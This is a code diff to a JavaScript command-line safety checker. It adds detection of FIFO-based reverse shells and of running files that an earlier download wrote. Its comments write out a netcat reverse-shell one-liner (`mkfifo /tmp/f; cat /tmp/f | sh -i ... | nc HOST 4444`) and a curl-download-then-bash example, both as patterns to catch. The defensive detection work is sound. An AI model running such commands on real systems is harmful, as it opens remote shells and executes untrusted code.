@@ -13,11 +13,12 @@ import {
   downloadedFiles,
   fileKey,
   findExecs,
+  readsCommands,
   RULES,
   scriptRun,
   xargsRuns,
 } from "./rules.js";
-import { containerInput, opensShell, terminalScripts } from "./terminals.js";
+import { containerInput, networkPrograms, opensShell, terminalScripts } from "./terminals.js";
 
 const MAX_DEPTH = 6;
 /**
@@ -195,6 +196,8 @@ function innerScripts(argv, redirects) {
     return words.length > 0 ? [words.join(" ")] : [];
   }
   if (argv[0] === "tmux" || argv[0] === "screen") return terminalScripts(argv);
+  const network = networkPrograms(argv);
+  if (network.length > 0) return network;
   if (COMMAND_OPTION.includes(argv[0])) {
     const script = commandOption(argv.slice(1));
     return script === undefined ? [] : [script];
@@ -384,6 +387,49 @@ function nextVars(raw, argv, vars) {
   return out;
 }
 
+const TYPED_SESSION = RULES.find((rule) => rule.id === "typed-session");
+
+/** The FIFOs `mkfifo NAME...` or `mknod NAME p` makes, as written. */
+function fifosMade(argv) {
+  if (argv[0] === "mknod") {
+    const operands = argv.slice(1).filter((w, i, all) =>
+      !w.startsWith("-") && !/^(?:-m|--mode|-Z|--context)$/.test(all[i - 1] ?? "")
+    );
+    return operands[1] === "p" ? [operands[0]] : [];
+  }
+  if (argv[0] !== "mkfifo") return [];
+  const names = [];
+  for (let i = 1; i < argv.length; i++) {
+    if (argv[i] === "-m" || argv[i] === "--mode" || argv[i] === "-Z" || argv[i] === "--context") {
+      i++;
+    } else if (!argv[i].startsWith("-") || argv[i] === "-") names.push(argv[i]);
+  }
+  return names;
+}
+
+/**
+ * The typed-session rule when a shell or interpreter of the pipeline reads a FIFO the command
+ * made before (`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST 4444 > /tmp/f`): what is
+ * written into it later, from the network here, is what runs.
+ */
+function readsFifo(commands, argvs, cwd, fifos) {
+  if (fifos === null || TYPED_SESSION === undefined) return null;
+  const isFifo = (path) => fifos.has(fileKey(path, cwd));
+  for (let k = 0; k < argvs.length; k++) {
+    if (!readsCommands(argvs[k])) continue;
+    const fromFifo = commands[k].redirects.some((r) =>
+      (r.fd === undefined || r.fd === 0) && (r.op === "<" || r.op === "<>") && isFifo(r.target)
+    ) ||
+      argvs.slice(0, k).some((argv) =>
+        argv[0] === "cat" && argv.slice(1).some(isFifo)
+      );
+    if (fromFifo) {
+      return hit(TYPED_SESSION, describe({ argv: argvs[k], redirects: commands[k].redirects }));
+    }
+  }
+  return null;
+}
+
 /** The pipe-to-shell rule when a command of the pipeline runs a file a download wrote before. */
 function runsFetched(commands, raw, argvs, cwd, fetched) {
   if (fetched === null || PIPE_TO_SHELL === undefined) return null;
@@ -414,17 +460,19 @@ function inspect(text, depth, cwd = null, vars = new Map()) {
   if (tooDeep || depth <= 0) {
     return hit({ id: "too-deep", about: "nested too deeply to check" }, text);
   }
-  // Files a download before wrote (`curl -o f URL && bash f`), by fileKey.
+  // Files a download before wrote (`curl -o f URL && bash f`), and FIFOs made before, by fileKey.
   let fetched = null;
+  let fifos = null;
   for (const commands of pipelines) {
     const raw = commands.map((c) => c.argv.map((w) => expandVars(w, vars)));
     const argvs = raw.map(effectiveArgv);
     const found = checkPipeline(commands, raw, argvs, depth, cwd, vars) ??
-      runsFetched(commands, raw, argvs, cwd, fetched);
+      runsFetched(commands, raw, argvs, cwd, fetched) ?? readsFifo(commands, argvs, cwd, fifos);
     if (found) return found;
     for (let k = 0; k < argvs.length; k++) {
       const command = { argv: argvs[k], redirects: commands[k].redirects };
       for (const file of downloadedFiles(command)) (fetched ??= new Set()).add(fileKey(file, cwd));
+      for (const file of fifosMade(argvs[k])) (fifos ??= new Set()).add(fileKey(file, cwd));
     }
     if (argvs.length === 1) {
       cwd = nextCwd(argvs[0], cwd);
